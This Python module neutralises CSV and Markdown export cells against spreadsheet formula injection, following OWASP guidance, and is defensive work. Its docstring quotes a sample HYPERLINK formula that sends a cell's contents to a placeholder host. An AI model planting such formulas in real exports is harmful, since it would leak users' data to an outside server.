"""Downloads (CSV and Markdown) that a spreadsheet opens as text, never as formulas.

A class name, file name or display name such as ``=HYPERLINK("http://host/?"&A1, "x")`` is live
when a teacher opens an exported CSV in a spreadsheet. OWASP's guidance on CSV injection: a cell
beginning with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is prefixed with a single
quote, so it shows as written. Every CSV and Markdown download of the app and the CLI goes
through :func:`safe_cell` (:func:`csv_text` for data frames, :func:`markdown_cell` for tables).
Numbers are left as numbers: only text cells can hold a formula.
"""

from __future__ import annotations

from typing import Any

import pandas as pd

#: What makes a spreadsheet read a cell as a formula (OWASP, "CSV Injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """``value`` itself, or a text that would start a formula prefixed with ``'``."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells and column names are neutralised (:func:`safe_cell`)."""
    out = frame.rename(columns=lambda c: safe_cell(c) if isinstance(c, str) else c)
    for column in out.columns:
        if out[column].dtype == object or pd.api.types.is_string_dtype(out[column].dtype):
            out[column] = out[column].map(safe_cell)
    if out.index.dtype == object:
        out.index = out.index.map(safe_cell)
    return out


def csv_text(frame: pd.DataFrame, **to_csv: Any) -> str:
    """``frame.to_csv(**to_csv)`` with formula cells neutralised: what every CSV download uses."""
    return safe_frame(frame).to_csv(**to_csv)


def markdown_cell(value: Any) -> str:
    """A cell of a Markdown pipe table: neutralised, its ``|`` escaped, on one line."""
    text = str(safe_cell(value))
    return text.replace("|", "\\|").replace("\r", " ").replace("\n", " ")
